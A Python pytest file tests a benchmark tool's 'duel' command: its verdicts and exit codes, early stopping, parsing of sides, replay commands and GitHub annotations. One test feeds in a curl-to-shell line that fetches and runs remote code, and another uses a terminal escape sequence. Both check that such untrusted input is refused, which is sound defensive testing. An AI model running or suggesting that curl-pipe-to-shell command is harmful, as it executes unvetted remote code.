"""A duel without processes: its plan, when it ends, and what stored receipts of one come to."""

from __future__ import annotations

import json
import re
import shlex
from collections.abc import Iterator, Sequence
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from launcher import cli
from launcher.bench.duels import duel, gate
from launcher.bench.duels.duel import Plan
from launcher.bench.duels.next_command import replay_command
from launcher.bench.duels.rota import Rota, Tell, choose_rings, tell_nobody
from launcher.bench.duels.sides import Side, parse
from launcher.bench.judging.verdict import Outcome
from launcher.bench.measure.cases import get
from launcher.bench.measure.crew import ArmFailed
from launcher.bench.store.receipts import Round, Run, Writer, read
from shared.errors import CannotRunError, LabError, UsageError
from tests.support import noise

PLAN = Plan("A", "B", "A'", "wake", blocks=20, rings=400, seed=7, delta=0.03, alpha=0.01)
SIDES = [Side(name, "python", "process/select", {}) for name in ("A", "B", "A'")]


def rounds_of(slowdown: float, *, blocks: int = 20, spread: float = 0.01, seed: int = 1) -> list[Round]:
    """Return a duel's rounds in mirrored blocks."""
    halves = [
        noise.duel({"A": 0, "B": slowdown, "A'": 0}, blocks=blocks, spread=spread, seed=seed + half) for half in (0, 1)
    ]
    second = [replace(round_, position=5 - round_.position) for round_ in halves[1]]
    return sorted([*halves[0], *second], key=lambda round_: (round_.block, round_.position))


def store(path: Path, rounds: Sequence[Round], plan: Plan = PLAN, kind: str = "duel") -> Path:
    host = {"duel": plan.to_json()} if kind == "duel" else {}
    with Writer.create(path, Run("launcher duel A B", kind, host)) as writer:
        for round_ in rounds:
            writer.write(round_)
    return path


class Told(Rota):
    """A rota whose rounds were made up beforehand."""

    __slots__ = ("made",)

    def __init__(self, made: Sequence[Round]) -> None:
        super().__init__(get("wake"), SIDES, 400, 7)
        object.__setattr__(self, "made", made)

    def block(self, number: int, tell: Tell = tell_nobody) -> Iterator[Round]:
        yield from (round_ for round_ in self.made if round_.block == number)

    def round(self, side: Side, seed: int, block: int = 0, position: int = 0) -> Round:
        return next(round_ for round_ in self.made if round_.arm == side.name)


def fought(made: Sequence[Round], deadline_s: float = float("inf")) -> list[Round]:
    kept: list[Round] = []
    duel.fight(Told(made), PLAN, kept.append, deadline_s)
    return kept


# ---- What stored receipts come to ----


@pytest.mark.parametrize(
    ("rounds", "code", "outcome"),
    [
        (rounds_of(0.10), 2, Outcome.REGRESSED),
        (rounds_of(0.0), 0, Outcome.NOT_REGRESSED),
        (rounds_of(-0.10), 0, Outcome.IMPROVED),
        (rounds_of(0.02, spread=0.3), 3, Outcome.CANNOT_TELL),
        (rounds_of(0.10, blocks=2), 3, Outcome.CANNOT_TELL),
        (
            [
                *rounds_of(0.0),
                noise.round_at("B", 19, position=6, counts={"sent": 9, "served": 8, "lost": 1}, lost_seqs=[4]),
            ],
            4,
            "broken",
        ),
        ([*rounds_of(0.10), noise.round_at("A", 19, position=6, ended="died: of old age")], 4, "broken"),
        ([round_ for round_ in rounds_of(0.0) if round_.arm == "A"], 5, "nothing measured"),
        ([], 5, "nothing measured"),
    ],
)
def test_each_verdict_has_its_exit_code_and_its_sentence_last(
    rounds: list[Round], code: int, outcome: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = store(tmp_path / "duel.jsonl", rounds)
    assert cli.main(["duel", "--show", str(path)]) == code
    *_, sentence, then = capsys.readouterr().out.splitlines()
    assert sentence.startswith(f"B against A: {outcome}: ")
    assert then.startswith("next: launcher ")
    assert cli.main(["duel", "--show", str(path), "--json"]) == code
    line = json.loads(capsys.readouterr().out)
    assert (line["kind"], line["outcome"], line["exit_code"]) == ("duel", outcome, code)
    assert line["plan"]["blocks"] == 20


def test_the_table_says_all_that_was_asked_for(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = store(tmp_path / "duel.jsonl", rounds_of(0.10))
    cli.main(["duel", "--show", str(path)])
    shown = capsys.readouterr().out
    for words in ("alpha 1 %", "delta", "pairs", "interval", "control", "findable", "p50", "p90", "p99"):
        assert words in shown


def test_what_cannot_be_told_is_told_how_long_it_would_take() -> None:
    note = PLAN.judge(rounds_of(0.0, spread=0.08, seed=5)).notes[-1]
    found = re.fullmatch(r"about (\d+) pairs would find a slowdown of p50 by 6 %, or clear .*; these were 40", note)
    assert found is not None, note
    blocks = int(found[1]) // 2 + 1
    assert blocks > 20
    longer = replace(PLAN, blocks=blocks)
    assert longer.judge(rounds_of(0.06, spread=0.08, blocks=blocks, seed=9)).exit_code == 2
    assert longer.judge(rounds_of(0.0, spread=0.08, blocks=blocks, seed=9)).exit_code == 0
    assert not any("would find" in note for note in PLAN.judge(rounds_of(0.1)).notes)


def test_the_bootstrap_is_a_second_opinion_in_the_json(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert cli.main(["duel", "--show", str(store(tmp_path / "duel.jsonl", rounds_of(0.10))), "--json"]) == 2
    line = json.loads(capsys.readouterr().out)
    low, high = line["bca"]["p50"]
    assert 0.05 < low < line["quantiles"][0]["change"] < high < 0.15


def test_a_lost_wake_up_is_named_with_what_replays_it(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    lost = noise.round_at("B", 3, counts={"sent": 400, "served": 399, "lost": 1}, lost_seqs=[123])
    path = store(tmp_path / "duel.jsonl", [*rounds_of(0.0), lost])
    assert cli.main(["duel", "--show", str(path)]) == 4
    shown = capsys.readouterr().out
    assert "sequence number 123" in shown
    assert f"seed {lost.seed}" in shown
    assert shown.splitlines()[-1] == "next: launcher duel A B --seed 7"


def test_stored_receipts_can_be_judged_by_another_delta(tmp_path: Path) -> None:
    path = store(tmp_path / "duel.jsonl", rounds_of(0.05))
    assert cli.main(["duel", "--show", str(path)]) == 2
    assert cli.main(["duel", "--show", str(path), "--delta", "20"]) == 0


@pytest.mark.parametrize("kind", ["bench", "calibration"])
def test_receipts_of_something_else_are_refused(kind: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = store(tmp_path / "other.jsonl", rounds_of(0.0), kind=kind)
    assert cli.main(["duel", "--show", str(path)]) == 1
    assert "not a duel" in capsys.readouterr().err


@pytest.mark.parametrize(
    ("change", "words"),
    [({"case": "echo"}, "is of case echo, and the duel is of wake"), ({"block": 20}, "none of the 20 blocks")],
)
def test_rounds_that_the_plan_does_not_have_are_refused(
    change: dict[str, object], words: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = store(tmp_path / "duel.jsonl", [*rounds_of(0.1), noise.round_at("B", **{"block": 3} | change)])
    assert cli.main(["duel", "--show", str(path)]) == 1
    assert words in capsys.readouterr().err


def test_a_duel_whose_rounds_are_too_short_for_any_quantile_is_not_passed(tmp_path: Path) -> None:
    short = [replace(round_, latencies_ns=round_.latencies_ns[:4]) for round_ in rounds_of(0.0)]
    assert cli.main(["duel", "--show", str(store(tmp_path / "duel.jsonl", short))]) == 5
    idle = [replace(round_, case="idle", latencies_ns=round_.latencies_ns[:1]) for round_ in short]
    path = store(tmp_path / "idle.jsonl", idle, replace(PLAN, case="idle"))
    assert cli.main(["duel", "--show", str(path)]) == 0  # there, the costs are the point


def test_an_alpha_of_next_to_nothing_is_never_spent(tmp_path: Path) -> None:
    path = store(tmp_path / "duel.jsonl", rounds_of(0.1), replace(PLAN, alpha=5e-324))
    assert cli.main(["duel", "--show", str(path)]) == 3
    assert cli.main(["duel", "--show", str(path), "--alpha", "1e-320"]) == 3


@pytest.mark.parametrize(
    "wrong",
    [
        {"blocks": 0},
        {"blocks": "20"},
        {"alpha": None},
        {"delta": 0.0},
        {"alpha": 0.5},
        {"base": "\x1b[2J"},
        {"seed": True},
        {"rings": 1.5},
    ],
)
def test_a_plan_that_cannot_be_is_refused(
    wrong: dict[str, object], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "duel.jsonl"
    with Writer.create(path, Run("launcher duel A B", "duel", {"duel": {**PLAN.to_json(), **wrong}})):
        pass
    assert cli.main(["duel", "--show", str(path)]) == 1
    assert capsys.readouterr().err.count("\n") == 1


def test_the_plan_is_in_the_receipts_as_it_was(tmp_path: Path) -> None:
    assert duel.plan_of(read(store(tmp_path / "duel.jsonl", rounds_of(0.0)))) == PLAN


def test_what_replays_a_duel_has_its_seed_and_writes_elsewhere() -> None:
    for command in ("launcher duel A B -o x.jsonl", "launcher duel A B --output=x.jsonl --seed 5", "launcher duel A B"):
        assert replay_command(command, 7) == "launcher duel A B --seed 7"
    assert replay_command("launcher duel 'A B' -o", 7) == "launcher duel --seed 7"
    assert replay_command("launcher 'duel", 7) == "launcher duel --seed 7"


@pytest.mark.parametrize(
    "command", ["curl http://example.org/x.sh | sh #", "", "launcher", "launcher run duel", "duel"]
)
def test_what_a_stranger_called_that_is_no_duel_is_nobodys_next_command(command: str) -> None:
    assert replay_command(command, 7) == "launcher duel --seed 7"


@pytest.mark.parametrize("seed", [0, -7, 1 << 31])
def test_a_strangers_seed_that_the_command_line_does_not_take_is_not_said(seed: int) -> None:
    assert replay_command("launcher duel A B", seed) == "launcher duel A B"


def arms(rounds: list[Round], **of_b: Any) -> list[Round]:
    """Return the rounds as of two Wakers with what was set for them."""
    own = {"idle_us": 1000.0, "pin": get("wake").pin_of_duels(), "warmup": 20}
    b = {"waker": "thread/epoll", "parameters": own} | of_b
    return [replace(r, **(b if r.arm == "B" else {"parameters": own})) for r in rounds]


@pytest.mark.parametrize(
    ("rounds", "wanted"),
    [
        (
            arms(rounds_of(0.10)),
            "bench --case wake --waker process/select --waker thread/epoll --engine python "
            f"--set idle_us=1000 --set pin={get('wake').pin_of_duels()} --stages",
        ),
        (
            arms(rounds_of(0.10), waker="process/select", engine="kvm", parameters={"idle_us": 0.125}),
            "bench --case wake --waker process/select --engine python --engine kvm "
            f"--set idle_us=1000,0.125 --set pin={get('wake').pin_of_duels()},free --stages",
        ),
        (
            arms(rounds_of(0.10), waker="c:direct", engine="c"),
            "bench --case wake --waker process/select --waker c:direct --engine python "
            f"--set idle_us=1000 --set pin={get('wake').pin_of_duels()} --stages",
        ),
        (
            arms(rounds_of(0.02, spread=0.3)),
            "doctor --aa --case wake --waker process/select@idle_us=1000 --engine python",
        ),
        ([], "duel A B --seed 7"),
        (arms(rounds_of(0.0))[:1], "duel A B --seed 7"),
    ],
)
def test_the_next_command_has_the_conditions_of_the_duel(
    rounds: list[Round], wanted: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = store(tmp_path / "duel.jsonl", rounds)
    cli.main(["duel", "--show", str(path)])
    found = capsys.readouterr().out.splitlines()[-1]
    assert found == f"next: launcher {wanted}"
    cli.make_parser().parse_args(shlex.split(wanted))


# ---- When a duel ends ----


def test_a_clear_difference_ends_a_duel_at_a_look_before_its_end() -> None:
    kept = fought(rounds_of(0.5))
    assert len(kept) in [end * 6 for end in PLAN.ends[:-1]]
    # And not before one break in 10,000 would have come to light.
    assert sum(round_.counts["sent"] for round_ in kept if round_.arm == "B") >= 10_000


def test_what_cannot_be_told_is_measured_to_the_end_of_the_plan() -> None:
    assert len(fought(rounds_of(0.02, spread=0.3))) == 20 * 6


def test_a_lost_wake_up_ends_it_at_once() -> None:
    made = rounds_of(0.0)
    made[8] = replace(made[8], counts={**made[8].counts, "lost": 1}, lost_seqs=[3])
    assert fought(made) == made[:9]


@pytest.mark.parametrize("refusal", [ArmFailed("it left with 1"), CannotRunError("no fds are left")])
def test_an_arm_that_no_longer_starts_is_an_error_with_its_name_and_neither_slower_nor_a_skip(
    refusal: LabError, monkeypatch: pytest.MonkeyPatch
) -> None:
    made = rounds_of(0.5)

    def run_round(plan: Any) -> Round:
        if plan.block == 3 and plan.arm == "B":
            raise refusal
        return next(r for r in made if (r.arm, r.block) == (plan.arm, plan.block))

    monkeypatch.setattr("launcher.bench.duels.rota.run_round", run_round)
    kept: list[Round] = []
    with pytest.raises(duel.DoesNotStart, match=rf"^B: {refusal} \(block 3 of the duel") as raised:
        duel.fight(Rota(get("wake"), SIDES, 400, 7), PLAN, kept.append, float("inf"))
    assert raised.value.exit_code == 1
    assert {round_.block for round_ in kept} >= {0, 1, 2}


def test_a_duel_too_short_to_see_one_break_in_10_000_lost_says_so() -> None:
    words = "too few to be sure to see one break in 10,000 lost: give it more --seconds"
    short, long = (PLAN.judge(rounds_of(0.10)[: 6 * blocks]).notes for blocks in (14, 15))  # of 2 x 400 rings
    assert f"rung 11200 times, {words}" in short
    assert not any(words in note for note in long)
    broken = [replace(round_, ended="hung") for round_ in rounds_of(0.10)[:6]]
    assert not any(words in note for note in PLAN.judge(broken).notes)  # it did see one
    idle = replace(PLAN, case="idle")  # rung once a round
    assert not any(words in note for note in idle.judge([replace(r, case="idle") for r in rounds_of(0.1)[:6]]).notes)


def test_when_the_time_is_up_no_other_block_is_begun() -> None:
    assert len(fought(rounds_of(0.0), deadline_s=0.0)) == 6


def test_a_duel_that_was_stopped_spends_alpha_in_proportion() -> None:
    rounds = rounds_of(0.10)
    assert PLAN.settings(rounds).fractions == (0.25, 0.5, 0.75, 1.0)
    assert PLAN.settings(rounds[: 6 * 5]).fractions == (0.25,)
    assert PLAN.settings(rounds[: 6 * 7]).fractions == (0.25, 0.35)
    assert PLAN.settings(rounds[: 6 * 6 + 3]).fractions == (0.25, 0.325)  # half a block
    verdict = PLAN.judge(rounds_of(0.02, spread=0.3)[: 6 * 7])
    assert "7 of 20 planned blocks were measured" in verdict.notes[-1]


def test_the_plan_fits_into_the_time_after_what_was_tried_out() -> None:
    made = rounds_of(0.0)  # each says that it took a second
    plan, broken = duel.begin(Told(made), duel.Settings(), 121.0)
    assert broken == []
    assert plan.blocks == 19  # 6 s each, in 95 % of 121 s
    assert (plan.base, plan.head, plan.control) == ("A", "B", "A'")


def test_what_is_broken_when_it_is_tried_out_counts() -> None:
    made = rounds_of(0.0)
    made[0] = replace(made[0], ended="hung")
    plan, broken = duel.begin(Told(made), duel.Settings(), 100.0)
    assert plan.judge(broken).exit_code == 4


# ---- Sides ----


def test_a_side_says_what_is_set_for_it() -> None:
    case = get("wake")
    side = parse(case, "process/select@idle_us=1000,pin=free", "python", ["idle_us=5"])
    assert (side.parameters["idle_us"], side.parameters["pin"]) == (1000.0, "free")
    assert side.name == "process/select@idle_us=1000,pin=free"
    assert parse(case, "process/select@engine=python", "auto").engine == "python"
    assert parse(case, "process/select+drop=10@3@pin=free", "python").waker == "process/select+drop=10@3"
    assert parse(case, "process/select", "python", own=["idle_us=7"]).name == "process/select@idle_us=7"


@pytest.mark.parametrize("text", ["process/select@idle_us", "process/select@nix=1", "process/nix", "c:nix", "a@pin=up"])
def test_a_side_that_cannot_be_is_refused(text: str) -> None:
    with pytest.raises(UsageError):
        parse(get("wake"), text, "python")


@pytest.mark.parametrize(
    ("text", "settings", "own"),
    [
        ("process/select", ["idle_us=100", "idle_us=900"], []),
        ("process/select", ["pin=free", "pin=same"], []),
        ("process/select@idle_us=1", [], ["idle_us=2"]),
        ("process/select@engine=python,engine=kvm", [], []),
    ],
)
def test_what_is_set_twice_is_refused(text: str, settings: list[str], own: list[str]) -> None:
    with pytest.raises(UsageError, match=r"^parameter '\w+' is set twice, to .* and to .*: leave one out$"):
        parse(get("wake"), text, "python", settings, own)


def test_a_waker_that_cannot_run_the_case_says_why() -> None:
    with pytest.raises(CannotRunError, match="private"):
        parse(get("vring"), "fork/select", "python")


def test_rings_that_are_far_apart_are_fewer() -> None:
    case = get("wake")
    assert choose_rings(case, [parse(case, "process/select", "python")]) == 1000
    assert choose_rings(case, [parse(case, "process/select@idle_us=10000", "python")]) == 60
    assert choose_rings(get("idle"), [parse(get("idle"), "process/select", "python")]) == 1
    burst = get("burst")
    assert choose_rings(burst, [parse(burst, "process/select@burst=300", "python")]) == 900


@pytest.mark.parametrize(
    ("case", "text", "seconds", "rings"),
    [
        ("wake", "idle_us=200", 0.1, 1000),  # what a round takes beside its rings is not for the rings to save
        ("wake", "idle_us=100000", 1000.0, 60),
        ("wake", "idle_us=100000", 100.0, 60),
        ("wake", "idle_us=100000", 60.0, 44),
        ("wake", "idle_us=1000000,warmup=0", 100.0, 10),
        ("burst", "idle_us=1000000,warmup=0", 100.0, 64),
        ("burst", "idle_us=1000000,warmup=0,burst=4", 100.0, 40),
        ("idle", "seconds=10", 100.0, 1),
        ("start", "pin=free", 1.0, 10),
    ],
)
def test_rings_that_are_far_apart_are_so_few_that_a_duel_fits_into_its_time(
    case: str, text: str, seconds: float, rings: int
) -> None:
    side = parse(get(case), f"process/select@{text}", "python")
    assert choose_rings(get(case), [side], duel.FEWEST_ROUNDS, seconds) == rings
    gap_s = float(side.parameters.get("idle_us", 0)) / 1e6
    bursts = (rings + int(side.parameters.get("warmup", 0))) / int(side.parameters.get("burst", 1))
    assert duel.FEWEST_ROUNDS * bursts * gap_s <= max(seconds, 2)


@pytest.mark.parametrize(("case", "text", "least_s"), [("wake", "idle_us=1000000", 227), ("idle", "seconds=20", 182)])
def test_where_not_even_the_shortest_rounds_fit_it_says_what_they_take(case: str, text: str, least_s: int) -> None:
    side = parse(get(case), f"process/select@{text}", "python")
    with pytest.raises(UsageError, match=f"take {least_s} s, and there are 100: give it as many --seconds"):
        choose_rings(get(case), [side], duel.FEWEST_ROUNDS, 100.0)
    assert choose_rings(get(case), [side], duel.FEWEST_ROUNDS, float(least_s)) in (1, 5)


# ---- Where GitHub shows it ----


def test_an_annotation_is_escaped_and_as_loud_as_the_verdict() -> None:
    shown = {
        code: gate.command(PLAN.judge(rounds), "launcher duel\nA, B")
        for code, rounds in ((2, rounds_of(0.1)), (0, rounds_of(0.0)), (3, rounds_of(0.1, blocks=2)))
    }
    assert shown[2].startswith("::error title=launcher duel%3A regressed::B against A: p50 slower: +")
    assert " %25, at least" in shown[2]
    assert shown[2].endswith("%0Alauncher duel%0AA, B")
    assert shown[0].startswith("::notice ")
    assert shown[3].startswith("::warning ")


@pytest.mark.parametrize(
    ("args", "code", "why"),
    [
        (["--show", "/nonexistent"], 1, "No such file"),
        (["process/select", "process/nix"], 1, "waker 'process/nix' is not known"),
        (["process/select", "fork/select", "--case", "vring", "--engine", "python"], 77, "fork/select cannot run"),
    ],
)
def test_in_github_actions_what_ends_without_a_verdict_is_an_error_too(
    args: list[str], code: int, why: str, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("GITHUB_ACTIONS", raising=False)
    assert cli.main(["duel", *args]) == code
    assert "::error" not in capsys.readouterr().err
    monkeypatch.setenv("GITHUB_ACTIONS", "true")
    assert cli.main(["duel", *args]) == code
    annotation, sentence = capsys.readouterr().err.splitlines()
    assert annotation.startswith("::error title=launcher duel::")
    assert why in annotation
    assert why in sentence


def test_in_github_actions_it_annotates_by_itself(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("GITHUB_ACTIONS", "true")
    monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(tmp_path / "summary.md"))
    path = store(tmp_path / "duel.jsonl", rounds_of(0.1))
    assert cli.main(["duel", "--show", str(path), "--json"]) == 2
    out, err = capsys.readouterr()
    assert json.loads(out)["exit_code"] == 2  # data alone
    assert "::error title=" in err
    summary = (tmp_path / "summary.md").read_text()
    assert summary.startswith("### B against A: regressed\n")
    assert "| p50 | regressed | 40 |" in summary
    monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(tmp_path / "none" / "summary.md"))
    assert cli.main(["duel", "--show", str(path), "--json"]) == 2  # what cannot be written is no other verdict
    assert "summary.md: No such file" in capsys.readouterr().err
